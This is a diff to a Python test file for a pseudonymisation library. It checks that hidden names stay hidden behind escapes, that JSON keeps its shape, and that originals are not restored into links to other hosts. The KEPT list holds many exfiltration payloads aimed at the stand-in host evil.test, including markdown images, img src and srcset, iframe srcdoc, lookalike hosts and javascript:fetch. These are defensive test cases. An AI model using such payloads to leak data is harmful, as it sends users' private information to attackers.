@@ -49,6 +49,14 @@ def records():
     yield {"log": f"level=info user={TALES[2]}", "score": 0.5, "at": None}
     yield {"sql": f"SELECT * FROM t WHERE n = '{TALES[3]}';\nVasska"}
     yield {"Dara O'Quellan": {"id": 48213}}
+    yield {"body": f"Result: {json.dumps({'who': TALES[0]})}, see {json.dumps(TALES[1])}"}
+    yield {"log": f"{json.dumps({'who': TALES[0]})}\n{json.dumps({'who': TALES[1]})}"}
+    yield {"log": TALES[0].replace("\n", "\\n"), "path": r"C:\vasska\quirina"}
+    yield {"csv": 'id,name\r\n1,Quirina Vasska\r\n2,"Vasska, Quirina"'}
+    yield {"html": "<td>Quirina</td><td>Vasska</td>", "md": "# Vasska\n- Quirina\n* Vasska"}
+    yield {"customer_ids": [48213, 7], "accounts": ["1", "48213"], "a": {"no": [48213]}}
+    yield [["Quirina", "Vasska"], [["Quirina Vasska"]], "Vasska"]
+    yield {"Quirina": {"Vasska\n": None}, "": "\tVasska"}
     yield "2024:\nVasska complained."
 
 
@@ -60,6 +68,9 @@ FORMS = {
         r"[&<>'+/]", lambda sign: f"\\u{ord(sign[0]):04x}", json.dumps(record)
     ),
     "lines": lambda record: "\n".join([json.dumps({"n": 1}), json.dumps(record)]),
+    "capitals": lambda record: re.sub(
+        r"[&<>'+A-Z]", lambda sign: f"\\u{ord(sign[0]):04X}", json.dumps(record)
+    ),
     "in a text": lambda record: f"Result: {json.dumps(record)} (1 row)",
     "cut off": lambda record: json.dumps([record, "and so on"])[:-6],
 }
@@ -68,11 +79,11 @@ FORMS = {
 def shape(value):
     """What of JSON is not its texts and numbers."""
     if isinstance(value, dict):
-        return [(len(key.split()) < 2 and key, shape(each)) for key, each in value.items()]
+        return [("key", shape(each)) for each in value.values()]
     if isinstance(value, list):
         return [shape(each) for each in value]
     if isinstance(value, str) and value[:1] in ("{", "["):
-        return shape(json.loads(value))
+        return [shape(json.loads(line)) for line in value.split("\n")]
     return type(value)
 
 
@@ -90,7 +101,7 @@ def test_known_names_are_not_readable_behind_escapes(form, record):
     text = form(record)
     release = talk.release("2", "tool", text).text
     assert not [word for word in HIDDEN if word in readable(release)]
-    if form in (json.dumps, FORMS["pretty"], FORMS["letters"], FORMS["escaped"]):
+    if form in [FORMS[name] for name in ("plain", "pretty", "letters", "escaped", "capitals")]:
         sent = json.loads(release)
         assert shape(sent) == shape(record)
         assert json.loads(talk.restore_json(release)) == record
@@ -159,6 +170,61 @@ def test_json_of_any_spelling_is_released_and_restored(document, data):
     )
 
 
+KINDS = ["person", "organisation", "date", "number", "id", "email", "amount"]
+PLACES = st.tuples(st.floats(0, 1), st.integers(1, 15), st.sampled_from(KINDS))
+
+
+@settings(max_examples=300, deadline=None)
+@given(documents(), st.lists(PLACES, min_size=1, max_size=4))
+def test_json_stays_json_whatever_a_detector_finds(document, found):
+    text, _ = document
+
+    def find(seen):
+        places = ((int(share * len(seen)), length, kind) for share, length, kind in found)
+        return [(a, min(a + n, len(seen)), kind) for a, n, kind in places]
+
+    exchange = (
+        dp.Pseudonyms(find, on_empty="pass")
+        .session()
+        .exchange([Message(role="tool", texts=(text,))])
+    )
+    released = exchange.sent[0].text
+    assert bare(json.loads(released)) == bare(json.loads(text))
+    assert isinstance(json.loads(exchange.restore(released, json=True, shown=False)), dict)
+
+
+def bare(value):
+    """The brackets of JSON, with nothing for all other values."""
+    if isinstance(value, dict | list):
+        inner = value.values() if isinstance(value, dict) else value
+        return [bare(each) for each in inner]
+    return None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "2024:\\nVasska complained.\\tQuirina",
+        "{'history': '2024:\\nVasska complained.', 'n': b'Quirina'}",
+        """{"it's": 'a\\nVasska', 'b': "Dara O\\'Quellan"}""",
+        r"C:\vasska\quirina and \nvasska and \tquirina",
+        "q=a%0AVasska%20Quirina%2CVasska",
+        r"Vasska\xa0Quirina\u00a0Vasska",
+        """a="b\\nVasska" c='d\\nQuirina'""",
+    ],
+)
+@pytest.mark.parametrize("step", [1, 4, 1000])
+def test_names_behind_escapes_outside_of_json(text, step):
+    talk = dp.Pseudonyms(detector(KNOWN), on_empty="pass").session()
+    asked = Message(role="user", texts=(", ".join(KNOWN),))
+    exchange = talk.exchange([asked, Message(role="tool", texts=(text,))])
+    released = exchange.sent[1].text
+    assert not [word for word in HIDDEN if word in readable(released)]
+    restorer = exchange.restorer(shown=False)
+    pieces = (restorer.feed(released[k : k + step]) for k in range(0, len(released), step))
+    assert "".join(pieces) + restorer.close() == text.replace("O\\'", "O'")
+
+
 @given(st.text(st.sampled_from('{}[]",:\\u0041n 1-eé'), max_size=40))
 def test_a_view_is_of_its_text(text):
     view = view_of(text)
@@ -220,6 +286,31 @@ KEPT = [
     '<a href="/?q=NAME">x</a>',
     "[x](mailto:a@evil.test?subject=NAME)",
     f"https://evil.test/?{'a' * 9000}=NAME",
+    "[r]: <//evil.test/NAME>",
+    "https://NAME:x@evil.test/",
+    "https://acme.test:x@evil.test/NAME",
+    "https://acme.test%40evil.test/NAME",
+    r"https://acme.test\@evil.test/NAME",
+    r"[x](https://acme.test\.evil.test/NAME)",
+    "[x](&sol;&sol;evil.test&sol;acme.test/NAME)",
+    "https://аcme.test/NAME",
+    "https://acme.test。evil.test/NAME",
+    "https://[::1]/NAME",
+    "evil.test/?q=NAME",
+    'https://evil.test/"NAME',
+    "https://evil.test/|NAME",
+    '![x](https://evil.test/(a"b)NAME)',
+    "<img src=NAME>",
+    "<img\nsrc = //evil.test/NAME>",
+    "<img src='//evil.test/a\"NAME'>",
+    '<img src="https://acme.test\t.evil.test/NAME">',
+    "<img srcset='https://acme.test 1x, https&#58;&#47;&#47;evil.test/NAME 2x'>",
+    "<div style='background:url(/NAME)'>",
+    "<iframe srcdoc='<img src=/NAME>'>",
+    '<a href=\'javascript:location="//evil.test/"+"NAME"\'>',
+    "mailto:a@evil.test?subject=NAME",
+    "[x](mailto:NAME@evil.test)",
+    "javascript:fetch('//evil.test/'+'//evil.test/NAME')",
 ]
 RESTORED = [
     "https://acme.test/?q=NAME",
@@ -227,6 +318,13 @@ RESTORED = [
     "(NAME)",
     "see https://evil.test NAME",
     "[NAME](#)",
+    "**https://acme.test:8080/NAME**",
+    "![x]( <HTTPS://ACME.TEST/NAME> )",
+    '{"u":"https://evil.test/a","n":"NAME"}',
+    "|https://evil.test/a|NAME|",
+    '<a href="https://evil.test/">NAME</a>',
+    "a < b and c=1, NAME",
+    "and/or NAME",
 ]
 
 
@@ -240,10 +338,7 @@ def test_no_address_of_another_host_carries_an_original(answer, step):
     restorer = exchange.restorer()
     shown = "".join(restorer.feed(text[k : k + step]) for k in range(0, len(text), step))
     shown += restorer.close()
-    if answer in KEPT:
-        assert shown == text
-    else:
-        assert shown == answer.replace("NAME", "Quirina") + "\nend"
+    assert shown == (text if answer in KEPT else answer.replace("NAME", "Quirina") + "\nend")
 
 
 def test_what_a_tool_has_found_names_no_host():
